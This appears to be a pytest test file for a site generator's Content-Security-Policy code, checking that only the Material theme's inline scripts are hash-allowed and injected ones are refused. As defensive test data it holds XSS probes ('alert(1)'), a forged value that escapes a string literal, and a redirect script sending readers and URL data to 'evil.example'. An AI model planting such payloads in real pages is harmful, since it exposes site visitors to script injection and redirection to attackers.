@@ -1,0 +1,150 @@
+"""The Content-Security-Policy of each page (generator/site/csp.py): which inline scripts a page has,
+their hashes as a browser computes them, and that only the theme's scripts are allowed."""
+
+from __future__ import annotations
+
+import html
+import logging
+import os
+from pathlib import Path
+
+import material
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from generator.site.csp import InlineScript, inline_scripts, policy_text, theme_scripts, with_policy
+
+MATERIAL_TEMPLATES = str(Path(material.__file__).parent / "templates")
+SCOPE = (
+    '__md_scope=new URL("{base}",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.charCodeAt(0)),0),'
+    '__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pathname+"."+e)),'
+    '__md_set=(e,_,t=localStorage,a=__md_scope)=>{{try{{t.setItem(a.pathname+"."+e,JSON.stringify(_))}}'
+    "catch(e){{}}}}"
+)
+
+
+def page(body: str, base: str = "../..") -> str:
+    """A page as Material writes it: its scope script in the head, ``body`` in the body."""
+    return (
+        '<!doctype html>\n<html lang="en">\n<head>\n<meta charset="utf-8">\n<title>T</title>\n'
+        f"<script>{SCOPE.format(base=base)}</script>\n</head>\n<body>\n{body}\n"
+        '<script id="__config" type="application/json">{"base": "."}</script>\n'
+        '<script src="../../assets/javascripts/bundle.js"></script>\n</body>\n</html>\n'
+    )
+
+
+def test_inline_scripts_are_the_ones_a_browser_runs() -> None:
+    text = page(
+        "<!-- <script>in a comment</script> -->"
+        "<SCRIPT type='module'>upper(case)</SCRIPT >"
+        '<script type="text/plain">a data block</script>'
+        "<script>last(1)</script  >"
+    )
+    found = [s.text for s in inline_scripts(text)]
+    assert found == [SCOPE.format(base="../.."), "upper(case)", "last(1)"]
+    assert [s.text for s in inline_scripts("<p><script>never closed")] == ["never closed"]
+
+
+def test_hashes_are_those_a_browser_computes() -> None:
+    # The empty script's hash, which every CSP reference lists; a browser reads CR LF as LF first.
+    assert InlineScript("", 0).source == "'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='"
+    assert InlineScript("a\r\nb\rc", 0).source == InlineScript("a\nb\nc", 0).source
+    assert InlineScript("a\nb", 0).source != InlineScript("ab", 0).source
+
+
+def test_the_themes_scripts_are_allowed_at_any_depth_and_others_are_refused() -> None:
+    theme = theme_scripts([MATERIAL_TEMPLATES])
+    for base in (".", "..", "../../..", "/repo/"):
+        result = with_policy(page("<p>text</p>", base), theme)
+        assert result.refused == ()
+        assert InlineScript(SCOPE.format(base=base), 0).source in result.policy
+    # A value that leaves its string literal is not what the theme writes.
+    forged = SCOPE.format(base='",alert(1),"')
+    assert not theme.written_by_theme(InlineScript(forged, 0))
+    injected = with_policy(page("<p><script>alert(1)</script></p>"), theme)
+    assert [s.text for s in injected.refused] == ["alert(1)"]
+    assert InlineScript("alert(1)", 0).source not in injected.policy
+
+
+def test_only_scripts_of_the_templates_pages_are_rendered_with_count(tmp_path: Path) -> None:
+    # Material's redirect.html writes location.replace("{{ … }}"): no page of a digest uses it, and
+    # trusting its shape would let an injected script send readers anywhere.
+    redirect = 'window.location.replace(["https://evil.example/",window.location.search,window.location.hash].join(""))'
+    assert not theme_scripts([MATERIAL_TEMPLATES]).written_by_theme(InlineScript(redirect, 0))
+    assert theme_scripts([MATERIAL_TEMPLATES], ["redirect.html"]).written_by_theme(InlineScript(redirect, 0))
+    # The owner's custom_dir overrides the theme's templates, and its scripts are the theme's too.
+    (tmp_path / "main.html").write_text(
+        '{% extends "base.html" %}{% block extrahead %}<script>var owner = 1</script>{% endblock %}'
+    )
+    with_owner = theme_scripts([str(tmp_path), MATERIAL_TEMPLATES])
+    assert with_owner.written_by_theme(InlineScript("var owner = 1", 0))
+    assert with_owner.written_by_theme(InlineScript(SCOPE.format(base=".."), 0))
+    assert not theme_scripts([MATERIAL_TEMPLATES]).written_by_theme(InlineScript("var owner = 1", 0))
+
+
+def test_the_policy_comes_first_in_head_after_the_charset() -> None:
+    result = with_policy(page("<p>x</p>"), theme_scripts([MATERIAL_TEMPLATES]))
+    head = result.html.split("<head>", 1)[1]
+    assert head.startswith(
+        f'\n<meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="{result.policy}">'
+    )
+    assert "script-src 'self' 'sha256-" in result.policy
+    for directive in ("object-src 'none'", "base-uri 'self'", "form-action 'none'", "default-src 'self'"):
+        assert directive in result.policy
+    assert "unsafe-eval" not in result.policy
+    assert policy_text([]).count("'unsafe-inline'") == 1  # styles only
+    assert with_policy("<p>no head</p>", theme_scripts([])).html == "<p>no head</p>"
+
+
+def test_the_preview_server_lets_its_live_reload_script_run() -> None:
+    # `paper-digest serve` (MkDocs' live reload) writes a script into each page it serves.
+    result = with_policy(page("<p>x</p>"), theme_scripts([MATERIAL_TEMPLATES]), live_reload=True)
+    assert "script-src 'self' 'unsafe-inline';" in result.policy and "sha256" not in result.policy
+    assert result.refused == ()
+
+
+@given(st.text(max_size=200).filter(lambda t: "</script" not in t.lower()))
+def test_a_script_from_the_input_is_never_allowed(text: str) -> None:
+    theme = theme_scripts([MATERIAL_TEMPLATES])
+    escaped = with_policy(page(f"<p>{html.escape(text)}</p>"), theme)
+    assert escaped.refused == ()
+    assert escaped.policy == with_policy(page("<p></p>"), theme).policy  # the text changes no hash
+    slipped = with_policy(page(f"<p><script>{text}</script></p>"), theme)
+    script = InlineScript(text, 0)
+    if not theme.written_by_theme(script):
+        assert script.source not in slipped.policy
+        assert text in [s.text for s in slipped.refused]
+
+
+def test_a_build_reports_an_inline_script_that_is_not_the_themes(tmp_path: Path, caplog) -> None:
+    """Through MkDocs and the hook: a page whose Markdown let a script through is built with a
+    policy that leaves it out, and the build says so (with ``strict: true`` the build stops)."""
+    from mkdocs.commands.build import build
+    from mkdocs.exceptions import Abort
+
+    from generator.site.mkdocs_config import load_digest_config
+
+    (tmp_path / "mkdocs.yml").write_text("site_name: T\nstrict: false\ntheme:\n  name: material\n")
+    docs = tmp_path / "docs"
+    docs.mkdir()
+    (docs / "index.md").write_text("# Home\n\n<script>window.slipped = 1</script>\n")
+    config = load_digest_config(tmp_path / "mkdocs.yml", docs_dir=str(docs), site_dir=str(tmp_path / "site"))
+    with caplog.at_level(logging.WARNING):
+        build(config)
+    built = (tmp_path / "site" / "index.html").read_text(encoding="utf-8")
+    assert "<script>window.slipped = 1</script>" in built
+    assert InlineScript("window.slipped = 1", 0).source not in built
+    assert any(
+        "window.slipped" in r.getMessage() and "not the theme's" in r.getMessage() for r in caplog.records
+    )
+    not_found = (tmp_path / "site" / "404.html").read_text(encoding="utf-8")
+    assert 'http-equiv="Content-Security-Policy"' in not_found
+    assert os.path.getsize(tmp_path / "site" / "sitemap.xml") > 0
+
+    (tmp_path / "mkdocs.yml").write_text("site_name: T\nstrict: true\ntheme:\n  name: material\n")
+    config = load_digest_config(
+        tmp_path / "mkdocs.yml", docs_dir=str(docs), site_dir=str(tmp_path / "strict"), nav=["index.md"]
+    )
+    with pytest.raises(Abort, match="strict"):
+        build(config)
